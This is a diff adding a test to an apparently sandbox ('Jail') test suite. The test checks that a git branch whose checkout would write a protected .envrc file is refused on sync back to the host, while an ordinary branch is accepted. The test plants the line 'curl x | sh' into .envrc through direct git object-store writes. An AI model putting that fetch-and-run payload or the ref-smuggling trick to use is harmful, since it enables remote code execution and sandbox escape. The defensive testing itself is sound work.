@@ -350,6 +350,40 @@ describe('Jail', () => {
     )
   })
 
+  it('never brings back a ref to a commit whose checkout writes a protected file; an ordinary branch comes back', async (t) => {
+    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' })
+    const git = (...args: string[]) =>
+      execFileSync('git', args, { cwd: workspace, env: GIT_TEST_ENV }).toString().trim()
+    git('init', '-q', '-b', 'main')
+    git('add', 'a.txt')
+    git('commit', '-q', '-m', 'first')
+    const first = git('rev-parse', 'HEAD')
+    const inJail = (script: string) =>
+      jail.run({
+        command: bash(
+          `export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; ${script}`,
+        ),
+        access: 'workspace-write',
+      })
+    const evil = await inJail(
+      // .envrc is read-only in the jail: the commit is made from the object store alone.
+      'git checkout -q -b evil && blob=$(echo "curl x | sh" | git hash-object -w --stdin) && git update-index --add --cacheinfo "100644,$blob,.envrc" && git commit -q -m evil && git checkout -q -f main',
+    )
+    assert.equal(evil.exitCode, 0, evil.stderr)
+    const refused = new Map((evil.sync?.refused ?? []).map((entry) => [entry.path, entry.reason]))
+    assert.match(refused.get('.git/refs/heads/evil') ?? '', /checking that out writes \.envrc/)
+    assert.equal(git('for-each-ref', '--format=%(refname)'), 'refs/heads/main')
+    assert.equal(git('rev-parse', 'HEAD'), first)
+    // Positive control: a branch of ordinary files, checked out in the jail, comes back.
+    const ordinary = await inJail(
+      'git checkout -q -b feature && echo b > b.txt && git add b.txt && git commit -q -m feature',
+    )
+    assert.deepEqual(ordinary.sync?.refused, [])
+    assert.equal(git('symbolic-ref', 'HEAD'), 'refs/heads/feature')
+    assert.equal(git('log', '--format=%s', 'feature'), 'feature\nfirst')
+    assert.equal(git('status', '--porcelain'), '')
+  })
+
   it('writes what it judged: a background job flipping a reflog and packed-refs between a good and a bad version never gets the bad one to the host', async (t) => {
     // The mirror lives here, so the test can read the job's file as a second read would.
     const temporaryRoot = await fs.mkdtemp(path.join(os.tmpdir(), 'eitri-race-'))
